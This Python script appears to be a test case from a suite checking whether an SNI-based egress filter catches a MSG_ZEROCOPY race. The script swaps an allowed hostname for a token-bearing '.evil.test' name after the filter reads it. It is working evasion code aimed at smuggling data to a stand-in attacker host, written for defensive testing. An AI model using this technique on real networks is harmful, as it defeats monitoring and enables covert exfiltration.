#!/usr/bin/python3
# id: d43_zerocopy_toctou_split
# title: MSG_ZEROCOPY: the name is changed after it was read, while the last byte of the hello is held back
# needs: user
# expect: detect
# why: the pages lie in the send queue while the name is already read
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
import mmap
def f():
    bad = TOK + '.evil.test'; good = 'a' * (len(bad) - len(ANAME) - 1) + '.' + ANAME; resolve(good); ch = client_hello(good, ctx=one_group)[0]; m = mmap.mmap(-1, 8192); m[:len(ch)] = ch; k = ch.index(good.encode())
    s = socket.socket(); s.settimeout(5); s.setsockopt(6, 3, 1); s.setsockopt(1, 60, 1); s.connect((ALLOW, P_SLOW)); s.send(memoryview(m)[:len(ch) - 1], 0x4000000); m[k:k+len(bad)] = bad.encode(); s.setsockopt(6, 3, 0); s.send(ch[-1:])
    try: s.recv(1000)
    except OSError: pass
attempt(f, dst=(ALLOW,), chan=('sni',))
